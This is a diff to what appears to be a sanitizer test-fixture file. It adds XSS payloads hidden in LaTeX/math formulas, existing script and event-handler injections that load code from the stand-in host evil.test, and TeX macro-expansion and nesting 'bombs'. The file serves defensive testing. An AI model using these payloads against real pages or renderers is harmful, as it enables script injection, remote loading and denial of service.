@@ -3,8 +3,35 @@ const evil = "https://evil.test";
 const tab = "\t";
 const nul = "\0";
 
+/** Formulas that link, load, set styles or attributes, or cover what is around them. */
+const formulas = [
+  String.raw`\href{javascript:ran(1)}{x}`,
+  String.raw`\url{javascript:ran(2)}`,
+  String.raw`\includegraphics[height=1em,alt=x]{${evil}/i.png}`,
+  String.raw`\style{position:fixed;inset:0;background:url(${evil}/b.png)}{x}`,
+  String.raw`\class{chat composer}{x}`,
+  String.raw`\id{location}{x}`,
+  String.raw`\data{name=value}{x}`,
+  String.raw`\htmlStyle{color:red}{x}`,
+  String.raw`\ref{location}\label{chat}x`,
+  String.raw`\text{<img src=x onerror=ran(3)>}`,
+  String.raw`\text{<script>ran(4)</script>}`,
+  String.raw`\unicode{x3C}script\unicode{x3E}`,
+  String.raw`\color{url(${evil}/c)}x`,
+  String.raw`\colorbox{red;background:url(${evil}/d)}{x}`,
+  String.raw`\fcolorbox{red}{blue}{x}`,
+  String.raw`\rule{9999em}{9999em}\kern-9999em x\raise9999em{y}\llap{z}`,
+  String.raw`\pmb{x}{}_a^b\sideset{_1^2}{_3^4}\sum`,
+  String.raw`\toggle{a}{b}\endtoggle\mathtip{a}{b}\texttip{a}{b}`,
+  String.raw`\def\constructor{x}\def\__proto__{y}\gdef\toString{z}x`,
+  String.raw`\begin{CD}A@>x>>B\end{CD}\cancelto{x}{y}\boxed{x}`,
+].map((tex) => `A $${tex}$ b.\n\n$$${tex}$$\n\n| a |\n| - |\n| \\(${tex}\\) |\n`);
+
 /** Scripts that must not run and addresses that must not be fetched, in the known ways to bypass a sanitizer. Scripts call `ran`. */
 export const attacks: Record<string, string> = {
+  ...Object.fromEntries(
+    Array.from({ length: 5 }, (_, at) => [`formulas ${at + 1}`, formulas.slice(4 * at, 4 * at + 4).join("\n")]),
+  ),
   scripts: `<script>ran("script")</script>\n\n<SCRIPT SRC=${evil}/a.js></SCRIPT>\n\n<script/x>ran(1)</script >\n\n<scr<script>ipt>ran(2)</scr</script>ipt>\n\n<script type=module>import "${evil}/m.js"</script>\n\n<script type=importmap>{"imports":{"a":"${evil}/b.js"}}</script>`,
   handlers: `<img src=x onerror=ran(1)>\n\n<b onclick="ran(2)" onmouseover=ran(3) tabindex=1 autofocus onfocus=ran(4)>b</b>\n\n<details open ontoggle=ran(5)><summary onclick=ran(6)>s</summary></details>\n\n<p/onpointerenter=ran(7)>x</p>\n\ntext <i style="animation: x" onanimationstart='ran(8)'>i</i> <span${tab}onclick${tab}=${tab}"ran(9)">s</span>\n\n<div popover id=p onbeforetoggle=ran(10)>p</div><button popovertarget=p>x</button>`,
   media: `<video src=${evil}/v poster=${evil}/p.png onerror=ran(1)></video>\n\n<audio src=${evil}/a autoplay onplay=ran(2)></audio>\n\n<picture><source srcset="${evil}/s.png 1x"><img srcset="${evil}/t.png 2x" sizes=1px></picture>\n\n<video><source src=${evil}/w onerror=ran(3)><track src=${evil}/t default></video>\n\n<img lowsrc=${evil}/l dynsrc=${evil}/d>\n\n<input type=image src=${evil}/i.png>\n\n<body background=${evil}/b.png>\n\n<table background=${evil}/t.png><tr><td background=${evil}/u.png>x</td></tr></table>`,
@@ -145,6 +172,10 @@ export const bombs: Record<string, string> = {
   mail: `${times("a.", 10_000)}@b`,
   headings: times("# a\n", 2_000),
   formulas: times("$a ", 8_000),
+  "closed formulas": times("$x^2$ ", 4_000),
+  "macros that expand for ever": times("$\\def\\a{\\a\\a}\\a$\n\n", 300),
+  "macros that multiply": `$${"abcdefgh".replace(/./g, (name) => `\\def\\${name}{${times(`\\${String.fromCharCode(name.charCodeAt(0) + 1)}`, 10)}}`)}\\a$`,
+  "deep formulas": `$${times("\\frac{1}{", 90)}x${times("}", 90)}$ $${times("{", 400)}x${times("}", 400)}$ $${times("\\left(", 60)}x${times("\\right)", 60)}$`,
   "open formulas": times("\\(", 8_000),
   backslashes: times("\\", 30_000),
   blanks: `a${times(" ", 30_000)}b`,
